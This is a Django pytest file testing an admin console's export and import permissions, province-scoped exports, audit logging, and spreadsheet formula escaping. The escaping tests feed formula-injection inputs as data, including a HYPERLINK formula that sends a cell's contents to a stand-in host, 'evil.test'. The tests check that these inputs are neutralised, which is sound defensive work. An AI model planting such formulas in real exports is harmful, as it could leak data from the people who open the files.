"""Console exports: permission, Disnaker province scope, formula escaping, audit; action permissions."""

import csv
import io

import openpyxl
import pytest
from django.contrib import admin
from django.contrib.auth.models import Group, Permission
from django.urls import reverse

from prakerja.models import AuditEntry
from prakerja.roles import Role
from prakerja.spreadsheets import spreadsheet_cell, spreadsheet_row
from registration.admin import ApplicantResource
from tests.factories import ApplicantFactory, UserFactory
from tests.registration.factories import CivilRecordFactory, disnaker_user

pytestmark = pytest.mark.django_db

EXPORT = reverse("admin:registration_applicant_export")
CSV, XLSX = "0", "1"
FIELDS = {f"applicantresource_{name}": "on" for name in ApplicantResource.Meta.fields}


def officer(role=Role.PROGRAMME_OFFICER):
    user = UserFactory(is_staff=True)
    user.groups.add(Group.objects.get(name=role))
    return user


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("http://x")', '\'=HYPERLINK("http://x")'),
        ("+62 812", "'+62 812"),
        ("-1+2", "'-1+2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Siti = Ani", "Siti = Ani"),
        ("-5", "-5"),  # one plain number cannot be a formula
        ("+62", "+62"),
        ("-1.5", "-1.5"),
        (-5, -5),  # typed numbers stay numbers
        (None, None),
        ("", ""),
    ],
)
def test_spreadsheet_cell_escapes_formula_starts_only(value, expected):
    assert spreadsheet_cell(value) == expected


def test_spreadsheet_row_escapes_every_cell():
    assert spreadsheet_row(["=1", 2, "a"]) == ["'=1", 2, "a"]


def test_csv_export_neutralises_formulas(client):
    ApplicantFactory(full_name='=HYPERLINK("http://evil.test/?"&A1,"klik")')
    client.force_login(officer())
    response = client.post(EXPORT, {"format": CSV, "resource": "0", **FIELDS})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert [row["full_name"] for row in rows] == ['\'=HYPERLINK("http://evil.test/?"&A1,"klik")']


def test_xlsx_export_writes_text_not_a_formula(client):
    applicant = ApplicantFactory(full_name="-1+2")
    client.force_login(officer())
    response = client.post(EXPORT, {"format": XLSX, "resource": "0", **FIELDS})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=header.index("full_name") + 1)
    assert (name.value, name.data_type) == ("'-1+2", "s")
    ident = sheet.cell(row=2, column=header.index("id") + 1)
    assert ident.value == applicant.pk  # a typed number stays a number


def test_disnaker_exports_only_their_province_and_it_is_audited(client):
    jabar = ApplicantFactory(full_name="Warga Jabar")  # 32.75.01
    ApplicantFactory(full_name="Warga Jakarta", district_code="31.01.01")
    staff = disnaker_user("32")
    client.force_login(staff)
    response = client.post(EXPORT, {"format": CSV, "resource": "0", **FIELDS})
    assert response.status_code == 200
    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8"))))
    assert [row["full_name"] for row in rows] == ["Warga Jabar"]
    assert [row["id"] for row in rows] == [str(jabar.pk)]
    entry = AuditEntry.objects.get(action="prakerja.console_export")
    assert entry.actor == staff
    assert (entry.data["model"], entry.data["rows"], entry.data["province_id"]) == (
        "registration.applicant",
        1,
        jabar.province_id,
    )


def test_disnaker_cannot_export_a_model_without_a_province_even_with_view_permission(client):
    CivilRecordFactory()
    staff = disnaker_user("32")
    staff.user_permissions.add(Permission.objects.get(codename="view_civilrecord"))
    client.force_login(staff)
    url = reverse("admin:registration_civilrecord_export")
    assert client.get(url).status_code == 403
    assert client.post(url, {"format": CSV, "resource": "0"}).status_code == 403
    assert not AuditEntry.objects.filter(action="prakerja.console_export").exists()


@pytest.mark.parametrize(
    "role", [Role.KYC_REVIEWER, Role.FINANCE_OFFICER, Role.DISNAKER_STAFF, Role.PLATFORM]
)
def test_officers_without_view_permission_cannot_export_civil_records(client, role):
    CivilRecordFactory()
    client.force_login(disnaker_user("32") if role == Role.DISNAKER_STAFF else officer(role))
    url = reverse("admin:registration_civilrecord_export")
    assert client.post(url, {"format": CSV, "resource": "0"}).status_code == 403


def test_export_permission_codes_are_set():
    from django.conf import settings

    assert (settings.IMPORT_EXPORT_IMPORT_PERMISSION_CODE, settings.IMPORT_EXPORT_EXPORT_PERMISSION_CODE) == (
        "add",
        "view",
    )


# --- Admin actions -----------------------------------------------------------------------

# Actions that check a dedicated permission inside the action (and hide it in get_actions).
CHECKED_INSIDE = {
    ("marketplace.Voucher", "cancel_and_refund"): "marketplace.cancel_voucher",
    ("marketplace.Platform", "issue_credentials"): "marketplace.rotate_platform_credentials",
    ("marketplace.Platform", "revoke_credentials"): "marketplace.rotate_platform_credentials",
    ("account.EmailAddress", "make_verified"): "superuser only (allauth's admin; no role holds account.*)",
}


def test_every_admin_action_declares_a_permission():
    """Without ``permissions=``, anyone who may *view* a list may run its actions."""
    missing = []
    for model, model_admin in admin.site._registry.items():
        for action in model_admin.actions or []:
            func = getattr(model_admin, action) if isinstance(action, str) else action
            key = (model._meta.label, func.__name__)
            if not getattr(func, "allowed_permissions", None) and key not in CHECKED_INSIDE:
                missing.append(key)
    assert missing == []


def test_a_finance_officer_cannot_verify_a_provider_through_the_action(client):
    from marketplace.enums import ProviderStatus
    from marketplace.models import Provider
    from tests.marketplace.factories import ProviderFactory

    provider = ProviderFactory(status=ProviderStatus.APPLIED)
    client.force_login(officer(Role.FINANCE_OFFICER))
    response = client.post(
        reverse("admin:marketplace_provider_changelist"),
        {"action": "verify", "_selected_action": [provider.pk]},
    )
    assert response.status_code == 200  # Django answers "no action selected" and does nothing
    assert Provider.objects.get(pk=provider.pk).status == ProviderStatus.APPLIED


def test_spreadsheet_csv_escapes_every_cell():
    from prakerja.spreadsheets import spreadsheet_csv

    assert spreadsheet_csv([["nama", "catatan"], ["=1+2", "-5"]]) == "nama,catatan\r\n'=1+2,-5\r\n"


def test_import_pages_need_the_models_add_and_change_permission(rf):
    """Any later django-import-export import page: the mixin refuses without add+change."""
    from django.core.exceptions import PermissionDenied
    from import_export.admin import ImportExportModelAdmin

    from prakerja.admin import ConsoleImportExportMixin
    from registration.models import CivilRecord

    class CivilRecordImport(ConsoleImportExportMixin, ImportExportModelAdmin):
        pass

    model_admin = CivilRecordImport(CivilRecord, admin.AdminSite(name="import-test"))
    request = rf.get("/")
    only_add = UserFactory(is_staff=True)
    only_add.user_permissions.add(Permission.objects.get(codename="add_civilrecord"))
    for user in (officer(Role.KYC_REVIEWER), officer(Role.FINANCE_OFFICER), disnaker_user("32"), only_add):
        request.user = user
        assert model_admin.has_import_permission(request) is False
        with pytest.raises(PermissionDenied):
            model_admin.import_action(request)
        with pytest.raises(PermissionDenied):
            model_admin.process_import(request)
    request.user = officer(Role.PROGRAMME_OFFICER)
    assert model_admin.has_import_permission(request) is True


# --- Deletes ---------------------------------------------------------------------------


def test_every_admin_a_role_may_delete_from_audits_the_delete(rf):
    from prakerja.admin import AuditedDeleteMixin

    request = rf.get("/")
    missing = set()
    for role in Role:
        request.user = disnaker_user("32") if role == Role.DISNAKER_STAFF else officer(role)
        for model, model_admin in admin.site._registry.items():
            if model_admin.has_delete_permission(request) and not isinstance(model_admin, AuditedDeleteMixin):
                missing.add(model._meta.label)
    assert missing == set()


def test_deleting_a_blacklist_entry_in_the_console_is_audited(client):
    from cohorts.models import Blacklist

    entry = Blacklist.objects.create(applicant=ApplicantFactory(), reason="dicabut")
    user = officer()
    client.force_login(user)
    response = client.post(reverse("admin:cohorts_blacklist_delete", args=[entry.pk]), {"post": "yes"})
    assert response.status_code == 302
    assert not Blacklist.objects.exists()
    audit = AuditEntry.objects.get(action="cohorts.blacklist_deleted")
    assert (audit.actor, audit.target_type, audit.target_id) == (user, "cohorts.blacklist", str(entry.pk))


def test_deleting_civil_records_with_the_bulk_action_audits_each_row(client):
    from registration.models import CivilRecord

    records = [CivilRecordFactory(), CivilRecordFactory()]
    client.force_login(officer())
    response = client.post(
        reverse("admin:registration_civilrecord_changelist"),
        {"action": "delete_selected", "_selected_action": [r.pk for r in records], "post": "yes"},
    )
    assert response.status_code == 302
    assert not CivilRecord.objects.exists()
    assert sorted(
        AuditEntry.objects.filter(action="registration.civilrecord_deleted").values_list(
            "target_id", flat=True
        )
    ) == sorted(str(r.pk) for r in records)
